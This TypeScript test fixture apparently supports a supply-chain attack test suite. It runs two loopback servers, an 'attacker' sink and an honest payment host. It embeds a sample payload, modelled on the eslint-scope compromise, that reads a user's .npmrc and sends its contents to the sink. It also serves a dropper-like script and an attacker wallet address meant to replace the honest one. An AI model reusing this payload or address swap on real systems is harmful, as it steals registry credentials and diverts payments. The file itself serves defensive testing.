/**
 * The only network of the corpus: two servers on loopback. The sink is the attackers' host, which nobody declared; the other is the
 * host that an application honestly works with.
 *
 * @module
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import { text } from "node:stream/consumers";

/** A legitimate receiver of payments: what the application means. */
export const HONEST_ADDRESS = "0x1111111111111111111111111111111111111111";

/** "As downloaded": leaves a line and computes a little. Its argument is the sandbox. */
const BINARY = `
const { appendFileSync } = require("node:fs");
let state = 1;
for (let i = 0; i < 1e6; i++) state = Math.imul(state ^ i, 16777619);
appendFileSync(process.argv[2] + "/traces.txt", "spawned jsextension\\n");
`;
/** What eslint-scope's look-alike evaluates. */
const PAYLOAD = `(kit) => kit.send("/logger", "token", { referer: kit.sink + "/" + (kit.readHome(".npmrc") ?? "nothing") })`;

const SINK_ANSWERS: { readonly [path: string]: string } = {
  "/payload.js": PAYLOAD,
  "/jsextension": BINARY,
  "/geo": '{"country":"BY"}',
  "/addresses": "0xA77AC4E5000000000000000000000000000000FF",
};
const HONEST_ANSWERS: { readonly [path: string]: string } = {
  "/rpc": '{"result":"confirmed"}',
  "/invoice": JSON.stringify({ payTo: HONEST_ADDRESS, amount: 5 }),
};

export interface LocalServer extends AsyncDisposable {
  readonly url: string;
  /** All that came, as text: method, path, headers and body of each request. */
  readonly received: readonly string[];
}

async function serve(answers: { readonly [path: string]: string }): Promise<LocalServer> {
  const received: string[] = [];
  const record = async (request: IncomingMessage): Promise<void> => {
    received.push(`${request.method} ${request.url}\n${JSON.stringify(request.headers)}\n${await text(request)}`);
  };
  const server: Server = createServer((request, response) => {
    record(request).then(
      () => response.end(answers[request.url ?? ""] ?? "{}"),
      () => response.destroy(),
    );
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  if (typeof address !== "object" || address === null) throw new Error("no port on loopback");
  return {
    url: `http://127.0.0.1:${address.port}`,
    received,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => void server.close(resolve));
    },
  };
}

export const serveSink = (): Promise<LocalServer> => serve(SINK_ANSWERS);
export const serveHonest = (): Promise<LocalServer> => serve(HONEST_ANSWERS);

/** What was sent, also where it was wrapped in base64, once or twice. */
export function unwrapped(message: string): string {
  let whole = message;
  let inner = message.slice(message.lastIndexOf("\n") + 1);
  for (let depth = 0; depth < 2 && /^[A-Za-z0-9+/=]+$/.test(inner); depth++) {
    inner = Buffer.from(inner, "base64").toString();
    whole += `\n${inner}`;
  }
  return whole;
}
